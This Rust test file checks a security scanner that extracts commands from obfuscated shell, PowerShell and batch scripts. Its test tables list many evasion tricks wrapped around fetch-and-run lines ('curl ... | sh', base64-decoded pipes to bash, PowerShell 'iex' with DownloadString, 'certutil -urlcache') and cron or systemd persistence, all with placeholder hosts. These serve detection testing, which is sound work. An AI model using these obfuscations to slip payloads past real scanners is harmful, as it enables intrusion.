//! What the scanners find, by example; every table line is one thing an attacker or a template does.

use super::*;
use proptest::prelude::*;

/// Every command as `name arg arg`, those of nested texts behind those of the script.
fn commands(language: Language, text: &str) -> Vec<String> {
    let script = scan(language, text);
    let words = |command: &Command| {
        let args = command.args().iter().map(|word| word.text.as_str());
        std::iter::once(command.name.as_str()).chain(args).collect::<Vec<_>>().join(" ")
    };
    script.commands.iter().filter(|command| !command.words.is_empty()).map(words).collect()
}

fn shell(text: &str) -> Vec<String> {
    commands(Language::Shell, text)
}

#[test]
fn quoting_and_expansion_are_undone() {
    for (text, expected) in [
        ("c''u\"r\"l -s x", "curl -s x"),
        (r"\curl c\url", "curl curl"),
        (r"$'\x63\165rl' x", "curl x"),
        ("curl${IFS}-s$IFS'x'", "curl -s x"),
        ("P=cu; Q=rl; $P${Q} x", "curl x"),
        ("C='curl -s x'; $C", "curl -s x"),
        ("${UNSET:-curl} x", "curl x"),
        ("x=xcurlx; ${x:1:4} y", "curl y"),
        ("a=(curl -s x); \"${a[@]}\"", "curl -s x"),
        ("{curl,-s,x}", "curl -s x"),
        ("n=P; P=curl; ${!n} x", "curl x"),
        ("c${z}url x", "curl x"),
        ("c$@url x", "curl x"),
        ("/usr/bin/c?rl x", "curl x"),
        ("$(echo Y3VybA== | base64 -d) x", "curl x"),
        ("`printf '\\143url'` x", "curl x"),
        ("cu\\\nrl \\\n x", "curl x"),
        ("export P=curl; $P x", "curl x"),
        ("declare -r P=curl; $P x", "curl x"),
    ] {
        assert!(shell(text).iter().any(|found| found == expected), "{text}: {:?}", shell(text));
    }
}

#[test]
fn comments_and_text_are_no_commands() {
    for text in [
        "# curl x | sh",
        "echo 'curl x | sh'",
        "echo \"a; curl x\"",
        "cat <<'E'\ncurl x\nE\n",
        "cat <<E\ncurl x\nE",
        "x='\ncurl x\n'",
        "[[ a == curl && b > c ]]",
        "echo $((1 << 3)) ${#a} a#b",
        ": ${x:-\"curl x\"}",
    ] {
        assert!(!shell(text).iter().any(|found| found.starts_with("curl")), "{text}: {:?}", shell(text));
    }
}

#[test]
fn commands_are_found_wherever_they_stand() {
    for text in [
        "if true; then curl x; fi",
        "while curl x; do :; done",
        "for i in 1 2; do curl x; done",
        "for ((i=0; i<3; i++)); do curl x; done",
        "case $a in b|c) curl x ;; esac",
        "case $a in\n (b)\n curl x\n ;;\nesac",
        "f() { curl x; }",
        "function f { curl x; }",
        "(curl x)",
        "{ curl x; }",
        "a && curl x || b",
        "a | curl x |& b",
        "curl x &",
        "! curl x",
        "time curl x",
        "A=1 B=2 curl x",
        ">/dev/null 2>&1 curl x",
        "echo \"$(curl x)\"",
        "echo \"`curl x`\"",
        "echo `echo \\`curl x\\``",
        "diff <(curl x) y",
        "tee >(curl x)",
        "a=$(curl x)",
        "a=(\"$(curl x)\")",
        "cat <<E\n$(curl x)\nE",
        "echo ${a:-$(curl x)}",
        "echo $(( $(curl x) + 1 ))",
        "[[ $(curl x) ]]",
        "((curl x) ; true)",
        "sudo -u root -E env A=b nohup timeout 5 curl x",
        "bash -c 'curl x'",
        "bash -lc \"bash -c 'curl x'\"",
        "sh <<E\ncurl x\nE",
        "sh <<< 'curl x'",
        "echo curl x | sh",
        "eval 'curl x'",
        "eval \"$(echo curl x)\"",
        "trap 'curl x' EXIT",
        "su - app -c 'curl x'",
        "python3 -c 'import os; os.system(\"curl x\")'",
        "perl -e 'system(\"curl x\")'",
        "echo 'curl x' > /tmp/a.sh; sh /tmp/a.sh",
        "printf '#!/bin/sh\\ncurl x\\n' > /opt/a",
        "cat > a <<E\ncurl x\nE\nchmod +x a",
        "echo '* * * * * curl x' | crontab -",
        "(crontab -l; echo '* * * * * curl x') | crontab -",
        "echo '* * * * * root curl x' > /etc/cron.d/a",
        "tee /etc/systemd/system/a.service <<E\n[Service]\nExecStart=-/usr/bin/curl x\nE",
        "echo 'Y3VybCB4' | base64 -d | bash",
        "base64 -d <<< Y3VybCB4 | bash",
        "echo 6375726c2078 | xxd -r -p | sh",
        "echo 'x lruc' | rev | sh",
        "echo Y3VybCB4 > f; base64 -d f | sh",
        "bash <(echo curl x)",
        ". <(echo curl x)",
    ] {
        assert!(shell(text).iter().any(|found| found == "curl x"), "{text}: {:?}", shell(text));
    }
}

#[test]
fn broken_scripts_do_not_hide_commands() {
    for text in [
        "echo \"unclosed\ncurl x",
        "echo 'unclosed\ncurl x",
        "echo ${unclosed\ncurl x",
        "echo $((unclosed\ncurl x",
        "echo $(unclosed\ncurl x",
        "a=(unclosed\ncurl x",
        "((((((curl x",
        "if true; then\ncurl x",
        "fi; done; esac; } ) curl x",
        "case x in\ncurl x",
        "[[ unclosed\ncurl x",
        "cat <<NEVER\ncurl x",
        "echo `unclosed\ncurl x",
        "| curl x",
        "&& ;; curl x",
        "f( ; curl x",
        "< ; curl x",
    ] {
        assert!(shell(text).iter().any(|found| found == "curl x"), "{text}: {:?}", shell(text));
    }
}

#[test]
fn pipes_link_whatever_feeds_a_command() {
    let fed_by = |text: &str, name: &str| -> Vec<String> {
        let script = scan(Language::Shell, text);
        let command = script.commands.iter().find(|command| command.name == name).expect(name);
        let feeding = command.stdin.into_iter().flat_map(Span::indices);
        feeding.map(|index| script.commands[index].name.clone()).filter(|name| !name.is_empty()).collect()
    };
    assert_eq!(fed_by("curl x | bash", "bash"), ["curl"]);
    assert_eq!(fed_by("(curl x || wget x) | bash", "bash"), ["curl", "wget"]);
    assert_eq!(fed_by("{ curl x; } | bash", "bash"), ["curl"]);
    assert_eq!(fed_by("curl x | while read l; do bash; done", "bash"), ["curl"]);
    assert_eq!(fed_by("curl x |\n bash", "bash"), ["curl"]);
    assert_eq!(fed_by("curl x > >(bash)", "bash"), ["curl"]);
    assert_eq!(fed_by("curl x; bash", "bash"), [] as [&str; 0]);
    assert_eq!(fed_by("curl x || bash", "bash"), [] as [&str; 0]);
}

#[test]
fn written_files_are_known_with_what_they_hold() {
    let script = scan(
        Language::Shell,
        "cat > /a <<E\none\nE\necho two >> /a\nprintf 'x%s' y | tee /b\ncp /b /c\necho eA== | base64 -d > /d\n",
    );
    let files: Vec<_> =
        script.files.iter().map(|file| (file.path.as_str(), file.text.as_str(), file.decoded)).collect();
    assert_eq!(
        files,
        [("/a", "one\ntwo\n", false), ("/b", "xy", false), ("/c", "xy", false), ("/d", "x", true)]
    );
}

#[test]
fn encodings_inside_one_another_are_counted() {
    assert_eq!(
        scan(Language::Shell, "echo ZWNobyBaV05vYnlCaENnPT0gfCBiYXNlNjQgLWQgfCBzaAo= | base64 -d | sh")
            .encodings,
        2
    );
    assert_eq!(scan(Language::Shell, "echo hi").encodings, 0);
}

#[test]
fn powershell_is_read_past_its_tricks() {
    for (text, expected) in [
        (
            "i`e`x (New-Object Net.WebClient).('Down'+'loadString')('u')",
            "iex New-Object Net.WebClient . DownloadString u",
        ),
        ("$a='ie'; $b=\"${a}x\"; & $b u", "iex u"),
        ("<# iex a #> # iex b\nIEX c", "iex c"),
        ("&('{1}{0}' -f 'ex','i') u", "iex u"),
        ("&([char]105+[char]0x65+'x') u", "iex u"),
        ("powershell -w hidden -e aQBlAHgAIAB1AA==", "iex u"),
        ("cmd /c \"curl x\"", "curl x"),
        ("@'\niex a\n'@ | Out-Null\niex b", "iex b"),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('R2V0LURhdGUgLUFsbCBub3c=')))",
            "get-date -All now",
        ),
    ] {
        let found = commands(Language::PowerShell, text);
        assert!(found.iter().any(|found| found == expected), "{text}: {found:?}");
    }
    assert!(
        !commands(Language::PowerShell, "# iex a\n'iex b' | Out-Null")
            .iter()
            .any(|found| found.starts_with("iex"))
    );
}

#[test]
fn batch_is_read_past_its_tricks() {
    for (text, expected) in [
        ("@echo off\r\nc^e^rtutil -urlcache x", "certutil -urlcache x"),
        ("set a=cert\nset b=util\n%a%%b% x", "certutil x"),
        ("set s=xcertutilx\n%s:~1,8% x", "certutil x"),
        ("if exist a (certutil x)", "certutil x"),
        ("for /f %%i in (a) do certutil x", "certutil x"),
        ("a & certutil.exe x && b", "certutil x"),
        ("powershell -c \"iex u\"", "iex u"),
    ] {
        let found = commands(Language::Batch, text);
        assert!(found.iter().any(|found| found == expected), "{text}: {found:?}");
    }
    assert!(
        !commands(Language::Batch, ":: certutil\nrem certutil")
            .iter()
            .any(|found| found.contains("certutil"))
    );
}

/// Inputs that parsers are slow or die on, 16 KB each.
fn slow_inputs() -> Vec<(&'static str, String)> {
    const SIZE: usize = 16 << 10;
    let fill = |unit: &str| unit.repeat(SIZE / unit.len());
    let mut inputs: Vec<(&str, String)> = [
        "( ",
        "((",
        "$(",
        "$((",
        "${",
        "${a:-",
        "`",
        "\"$(",
        "\"",
        "'",
        "\"'",
        "case x in a) ",
        "case x in ",
        "if ",
        "{ ",
        "[[ ",
        "(( 1 + ",
        "<<a\n",
        "<<-\ta <<b\n",
        "cat <<E\n$(cat <<E\n",
        "a=$a$a;",
        "a=(",
        "a() { ",
        "f(){ f|f& };f;",
        "<(",
        ">(",
        "\\`",
        "$(echo ",
        "echo x|",
        "echo a | base64 -d | sh;",
        "eval ",
        "bash -c '",
        "sh <<< \"$a\";",
        "| ",
        "while ",
        "{a,b}",
        "$'",
        "&",
        "do ",
        "echo \\",
        "x=1 ",
        "\n",
        "a >b ",
        "!",
        "} ",
        ") ",
        "fi ",
        "; ",
        "cp a b;",
        "export a=",
        "@(a|",
        "echo x > /tmp/f;sh /tmp/f;",
        "{ cat | ",
        "pkill $(grep ",
        "crontab - <<E\n* * * * * a\nE\n",
        "trap \"",
        "x=$(x ",
        "a[",
        "$a$b${c}",
        "curl http://a|sh;",
    ]
    .iter()
    .map(|unit| (*unit, fill(unit)))
    .collect();
    let distinct = |line: fn(usize) -> String| {
        (0..).map(line).scan(0, |size, line| {
            *size += line.len();
            (*size < SIZE).then_some(line)
        })
    };
    inputs.push(("distinct here-documents", distinct(|n| format!("<<d{n}\n")).collect()));
    inputs.push(("delimiters before their openers", {
        let half: String = distinct(|n| format!("d{n}\n")).take(1200).collect();
        half + &(0..1200).map(|n| format!("<<d{n}\n")).collect::<String>()
    }));
    inputs.push(("tabbed delimiters", fill("\tE\n<<E\n")));
    inputs.push(("doubling", format!("a={};{}eval $a", "x".repeat(64), "a=$a$a;".repeat(2000))));
    inputs.push((
        "loop of values",
        format!("for i in {}; do {} done", "x ".repeat(4000), "echo $i;".repeat(900)),
    ));
    inputs.push(("arrays", format!("a=({}); {}", "x ".repeat(4000), "echo ${a[@]};".repeat(500))));
    inputs.push(("files", (0..400).map(|n| format!("echo sh /f{n} > /f{};sh /f{n};", n + 1)).collect()));
    inputs.push((
        "long pipes into shells",
        format!("echo {} {}", "A".repeat(4000), "| cat | sh ".repeat(1000)),
    ));
    inputs.push(("groups of readers", "{ cat;cat;cat;cat;cat;cat;cat;cat; } | ".repeat(400)));
    inputs
}

/// The bound is 50 ms in a release build; an unoptimised one, on a machine that does other things as
/// well, gets the multiple that was seen between the two.
fn time_limit() -> std::time::Duration {
    std::time::Duration::from_millis(if cfg!(debug_assertions) { 2_000 } else { 50 })
}

#[test]
fn no_input_is_slow() {
    for (name, text) in slow_inputs() {
        for language in [Language::Shell, Language::PowerShell, Language::Batch, Language::Python] {
            // The best of three: what the input costs, not what else the machine does.
            let best = (0..3)
                .map(|_| {
                    let start = std::time::Instant::now();
                    let script = scan(language, &text);
                    assert!(script.commands.len() <= 12_000);
                    start.elapsed()
                })
                .min();
            assert!(best < Some(time_limit()), "{name:?} as {language:?}: {best:?}");
        }
    }
}

fn any_language() -> impl Strategy<Value = Language> {
    prop::sample::select(vec![
        Language::Shell,
        Language::PowerShell,
        Language::Batch,
        Language::Python,
        Language::Other,
    ])
}

/// Text made of the pieces that scanners trip over.
fn hostile_text() -> impl Strategy<Value = String> {
    let pieces = vec![
        "(",
        ")",
        "((",
        "))",
        "$(",
        "${",
        "}",
        "`",
        "\"",
        "'",
        "\\",
        "\n",
        " ",
        ";",
        "|",
        "&",
        "<<E\n",
        "E\n",
        "<<-'E'\n",
        "<",
        ">",
        "<(",
        "case x in",
        "esac",
        "a)",
        ";;",
        "if",
        "fi",
        "do",
        "done",
        "[[",
        "]]",
        "{",
        "$'",
        "é",
        "\u{202e}",
        "\0",
        "x=",
        "$x",
        "=(",
        "#",
        "echo",
        "| base64 -d",
        "| sh",
        "bash -c ",
        "eval ",
        "sh <<< ",
        "${x:-",
        "${x/a/",
        "${#x}",
        "${!x}",
        "@(",
        "\t",
        "\r",
        "%a%",
        "^",
        "[char]",
        "@'",
        "'@",
        "-f",
        "{0}",
        "crontab - ",
        "> /tmp/a",
        "/tmp/a",
        "python -c ",
        "%PATH:~1,2%",
        "🦀",
    ];
    prop::collection::vec(prop::sample::select(pieces), 0..120).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: if cfg!(debug_assertions) { 256 } else { 4096 }, ..ProptestConfig::default() })]

    #[test]
    fn no_bytes_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..600), language in any_language()) {
        let script = scan(language, &String::from_utf8_lossy(&bytes));
        prop_assert!(script.commands.iter().all(|command| (command.unit as usize) < script.units.len()));
    }

    #[test]
    fn no_hostile_text_makes_it_panic(text in hostile_text(), language in any_language()) {
        let script = scan(language, &text);
        for command in &script.commands {
            let unit = &script.units[command.unit as usize];
            prop_assert!(line_number(&unit.text, command.offset) >= 1);
        }
    }

    /// Whatever stands in front, complete lines behind it are still seen, unless it is an open quote or
    /// here-document that swallows them for bash as well.
    #[test]
    fn a_command_on_its_own_line_survives_what_stands_before(prefix in "[a-z(){}\\[\\]$|&;<>=!#%^* \n]{0,80}") {
        prop_assume!(!prefix.contains("<<") && !prefix.ends_with('\\'));
        let text = format!("{prefix}\ncurl http://a.example | sh\n");
        prop_assert!(shell(&text).iter().any(|found| found == "curl http://a.example"), "{:?}", shell(&text));
    }
}
